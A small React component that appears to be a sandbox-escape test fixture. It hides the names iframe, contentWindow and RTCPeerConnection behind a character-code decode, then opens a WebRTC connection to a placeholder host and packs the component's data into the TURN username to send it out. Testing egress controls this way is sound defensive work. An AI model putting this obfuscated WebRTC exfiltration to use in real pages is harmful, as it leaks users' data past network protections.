import { useEffect } from "react";

// Escape attempt: webrtc_nested_runtime_names — names computed at run time, beyond what a parser can fold
export default function Hostile({ data }) {
  useEffect(() => {
    const servers = { iceServers: [{ urls: "stun:__HOSTPORT__" }, { urls: "turn:__HOSTPORT__?transport=tcp", username: "PWNED-webrtc_nested_runtime_names-" + JSON.stringify(data ?? null), credential: "c" }] };
    try {
      const decode = (codes) => codes.map((c) => String.fromCharCode(c - 1)).join("");
      const frame = document.createElement(decode([106, 103, 115, 98, 110, 102]));
      document.body.appendChild(frame);
      const realm = frame[decode([100, 112, 111, 117, 102, 111, 117, 88, 106, 111, 101, 112, 120])];
      const Peer = realm[decode([83, 85, 68, 81, 102, 102, 115, 68, 112, 111, 111, 102, 100, 117, 106, 112, 111])];
      const pc = new Peer(servers); pc.createDataChannel("x"); pc.createOffer().then((o) => pc.setLocalDescription(o));
    } catch (error) {
      console.info("contained", error && error.message);
    }
  }, [data]);
  return <p data-testid="hostile">webrtc_nested_runtime_names</p>;
}
